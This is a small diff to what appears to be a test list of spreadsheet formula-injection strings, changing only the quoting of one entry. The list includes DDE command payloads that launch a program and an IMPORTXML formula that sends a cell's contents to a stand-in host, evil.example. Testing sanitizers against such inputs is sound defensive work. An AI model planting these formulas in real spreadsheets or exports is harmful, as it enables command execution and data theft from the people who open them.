@@ -19,7 +19,7 @@ const FORMULAS = [
   '\r=1+1',
   "=cmd|' /C calc'!A0",
   '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@import',
   "'=already quoted",
   "''+two apostrophes",
